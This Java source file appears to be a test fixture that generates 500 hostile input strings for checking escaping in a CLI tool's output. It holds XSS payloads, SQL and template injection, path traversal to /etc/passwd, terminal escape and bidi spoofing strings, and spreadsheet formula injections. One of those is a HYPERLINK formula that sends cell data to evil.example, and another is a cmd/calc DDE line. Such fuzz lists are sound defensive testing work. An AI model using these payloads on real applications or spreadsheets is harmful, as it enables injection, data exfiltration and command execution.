package dev.mainstay.cli;

import java.util.ArrayList;
import java.util.List;

/** Five hundred strings that want to be more than text: to a browser, a spreadsheet, a terminal or a reader's eye. */
final class HostileStrings {

    private static final List<String> ATTACKS = List.of(
            "<script>window.hit=1</script>",
            "</script><script>window.hit=1</script>",
            "</SCRIPT ><svg onload=window.hit=1>",
            "<!--<script>",
            "--><img src=x onerror=window.hit=1>",
            "<img src=x onerror=window.hit=1>",
            "<svg/onload=window.hit=1>",
            "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
            "<a href=javascript:window.hit=1>x</a>",
            "\" onmouseover=\"window.hit=1\" x=\"",
            "' onfocus='window.hit=1' autofocus='",
            "` onclick=`window.hit=1",
            "</title><base href=//evil.example/>",
            "</style><link rel=stylesheet href=//evil.example/x.css>",
            "</textarea><form action=//evil.example><input name=q>",
            "<meta http-equiv=refresh content=0;url=//evil.example>",
            "<math><mtext></mtext><mglyph><style><img src=x onerror=window.hit=1>",
            "<template><script>window.hit=1</script></template>",
            "&lt;script&gt;window.hit=1&lt;/script&gt;",
            "&#60;img src=x onerror=window.hit=1&#62;",
            "javascript:window.hit=1",
            "data:text/html,<script>window.hit=1</script>",
            "]]><script>window.hit=1</script>",
            "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
            "\\\"};window.hit=1;//",
            "'};window.hit=1;//",
            "${window.hit=1}",
            "$unsafe{window.hit}",
            "@raw<script>window.hit=1</script>@endraw",
            "{{constructor.constructor('window.hit=1')()}}",
            "<%= 7*7 %>",
            "#{7*7}",
            "__proto__",
            "constructor",
            "{0} {1} $& $1 $`",
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?\"&A1)",
            "+1+1",
            "-1+1",
            "@SUM(1,1)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "\u00A0=1+1",
            "\uFEFF=1+1",
            "\u200B=1+1",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(1)",
            "a;=1+1",
            "a\t=1+1",
            "a\n=1+1",
            "\"=1+1",
            "'=1+1",
            "a\",\"=1+1",
            "|calc",
            "%0A=1+1",
            "\u001B[2J\u001B[31mred",
            "\u001B]0;title\u0007",
            "\u009B31m",
            "a\u0000b",
            "\b\b\b\bgone",
            "\u007F\u0085\u008D",
            "one\r\nERROR MS-000 forged",
            "\u202Etxt.exe",
            "\u2066\u202D\u202C\u2069",
            "\u200F\u061C\u200E",
            "a\u2028b\u2029c",
            "שלום עולם",
            "مرحبا بالعالم <b>",
            "👩‍👩‍👧‍👦 🏴‍☠️ 𝕏",
            "Z̷̛̪a̶l̵̙g̶͝o̷",
            "ﷺ﷽",
            "\uD83D",
            "\uDE00x",
            "客户<b>名称</b>",
            "ＦＵＬＬ＜ｓｃｒｉｐｔ＞",
            "../../../../etc/passwd",
            "#/account/A-1",
            "~1",
            "%00%ff%",
            "?lang=zh#main",
            "main",
            "' OR 1=1 --",
            "NaN",
            "Infinity",
            "null",
            "true");

    private HostileStrings() {}

    /** All of them, each unlike the others. */
    static List<String> all() {
        List<String> all = new ArrayList<>(ATTACKS);
        for (String attack : ATTACKS) {
            all.add("Acme " + attack);
        }
        for (String attack : ATTACKS) {
            all.add(attack + attack + "\"'><");
        }
        for (String attack : ATTACKS) {
            all.add("华东" + attack + "有限公司");
        }
        for (String attack : ATTACKS) {
            all.add("\"'>" + attack + "<!--");
        }
        for (int i = 0; all.size() < 499; i++) {
            all.add(ATTACKS.get(i % ATTACKS.size()) + ATTACKS.get((i * 7 + 3) % ATTACKS.size()));
        }
        all.add("<b>" + "W".repeat(9_000) + "</b>");
        return List.copyOf(all.subList(0, 500));
    }
}
